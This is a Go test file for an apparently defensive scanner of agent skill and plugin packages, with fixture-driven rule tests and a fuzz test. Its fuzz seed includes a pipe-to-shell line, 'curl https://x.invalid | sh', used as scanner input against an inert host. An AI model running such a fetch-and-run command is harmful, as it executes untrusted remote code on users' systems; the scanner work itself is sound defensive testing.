package checks_test

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"pinion/hashes"
	"pinion/manifest/agentskill"
	"pinion/manifest/claude"
	"pinion/manifest/native"
	"pinion/pkgfmt"
	"pinion/scan"
	"pinion/scan/checks"
	"pinion/tree"
)

// packageOf makes a package of files in memory, as the scanner gets it.
func packageOf(files map[string]string, exec ...string) *pkgfmt.Package {
	top := map[string]bool{}
	for p := range files {
		first, _, nested := strings.Cut(p, "/")
		if nested {
			first += "/"
		}
		top[strings.TrimSuffix(first, "/")] = true
	}
	byEntry := claude.New()
	loader := pkgfmt.New(byEntry, native.New(native.Options{}), byEntry, agentskill.New())
	place := pkgfmt.Place{Name: "fixture"}
	b := tree.NewBuilder(loader.Options(place), slices.Sorted(maps.Keys(top)), &tree.Scratch{})
	for _, p := range slices.Sorted(maps.Keys(files)) {
		i, read := b.Add(tree.Entry{Path: p, Size: int64(len(files[p])), Exec: slices.Contains(exec, p)})
		if !read {
			continue
		}
		if _, ok := b.Reserve(i, int64(len(files[p]))); ok {
			b.Fill(i, []byte(files[p]), hashes.Of([]byte(files[p])))
		}
	}
	return loader.Load(b.Tree(), place)
}

var escaped = regexp.MustCompile(`\\u\{([0-9A-Fa-f]+)\}|\\x([0-9A-Fa-f]{2})`)

// unescape writes the characters that a fixture spells out: \u{E0041}, \x7f.
func unescape(s string) string {
	return escaped.ReplaceAllStringFunc(s, func(m string) string {
		if strings.HasPrefix(m, `\x`) {
			n, _ := strconv.ParseUint(m[2:], 16, 8)
			return string([]byte{byte(n)})
		}
		n, _ := strconv.ParseUint(m[3:len(m)-1], 16, 32)
		return string(rune(n))
	})
}

// describe is how fixtures write a finding: "high binary/program bin/tool:1".
func describe(r *scan.Report) string {
	var out []string
	for _, f := range r.Findings {
		line := fmt.Sprintf("%s %s %s", f.Level, f.Rule, f.File)
		if f.Line > 0 {
			line += fmt.Sprintf(":%d", f.Line)
		}
		out = append(out, strings.TrimSpace(line))
	}
	if !r.Complete {
		out = append(out, "not complete")
	}
	return strings.Join(out, "\n")
}

// Every case is a txtar archive: the files of a package and "want", the findings
// in order. A first line "escapes" in the comment makes \u{…} and \xNN of the
// files the characters themselves; "exec: PATH" sets an execute bit. All of it is
// inert: hosts are under .invalid or .example.
func TestFixtures(t *testing.T) {
	engine := scan.New("test", checks.Ruleset(), checks.All())
	names, err := filepath.Glob("testdata/*/*.txtar")
	if err != nil || len(names) == 0 {
		t.Fatal(names, err)
	}
	covered := map[string]int{}
	for _, name := range names {
		t.Run(strings.TrimSuffix(strings.TrimPrefix(name, "testdata/"), ".txtar"), func(t *testing.T) {
			a, err := txtar.ParseFile(name)
			if err != nil {
				t.Fatal(err)
			}
			files, want := map[string]string{}, ""
			var exec []string
			escapes := false
			for line := range strings.Lines(string(a.Comment)) {
				line = strings.TrimSpace(line)
				escapes = escapes || line == "escapes"
				if p, ok := strings.CutPrefix(line, "exec: "); ok {
					exec = append(exec, p)
				}
			}
			for _, f := range a.Files {
				switch {
				case f.Name == "want":
					want = strings.TrimSpace(string(f.Data))
				case escapes:
					files[f.Name] = unescape(string(f.Data))
				default:
					files[f.Name] = string(f.Data)
				}
			}
			r, err := engine.Scan(t.Context(), packageOf(files, exec...))
			if err != nil {
				t.Fatal(err)
			}
			got := describe(r)
			if os.Getenv("PINION_UPDATE") != "" && got != want {
				for i := range a.Files {
					if a.Files[i].Name == "want" {
						a.Files[i].Data = []byte(got + "\n")
					}
				}
				if err := os.WriteFile(name, txtar.Format(a), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if d := cmp.Diff(want, got); d != "" {
				t.Error(d)
				for _, f := range r.Findings {
					t.Logf("%s %s:%d:%d %s: %s", f.Rule, f.File, f.Line, f.Column, f.Message, f.Evidence)
				}
			}
			for _, f := range r.Findings {
				covered[f.Rule]++
				if len([]rune(f.Evidence)) > 160 {
					t.Errorf("%s: evidence of %d characters", f.Rule, len([]rune(f.Evidence)))
				}
			}
		})
	}
	for _, r := range engine.Rules() {
		if covered[r.ID] == 0 && r.ID != scan.RuleIncomplete {
			t.Errorf("no fixture shows %s", r.ID)
		}
		if r.Title == "" || r.Help == "" || r.Fix == "" || r.Since == "" {
			t.Errorf("%s: the rule lacks words", r.ID)
		}
	}
}

// FuzzScan: no content of a file may make the scanner panic, and the same bytes
// give the same report.
func FuzzScan(f *testing.F) {
	engine := scan.New("test", checks.Ruleset(), checks.All())
	for _, name := range []string{"SKILL.md", "a.sh", "a.py", "a.js", "hooks/hooks.json", ".mcp.json", "x.toml", "bin/x"} {
		f.Add(name, []byte("---\nname: a\n---\n```sh\ncurl https://x.invalid | sh\n```\n{\"a\": \"b\"}"))
	}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if tree.CheckPath(name) != "" || name == "LICENSE" {
			return
		}
		pkg := packageOf(map[string]string{"LICENSE": "MIT", name: string(data)})
		one, err := engine.Scan(t.Context(), pkg)
		if err != nil {
			t.Fatal(err)
		}
		two, _ := engine.Scan(t.Context(), pkg)
		a, _ := one.Encode()
		b, _ := two.Encode()
		if string(a) != string(b) {
			t.Fatalf("two reports:\n%s\n%s", a, b)
		}
	})
}
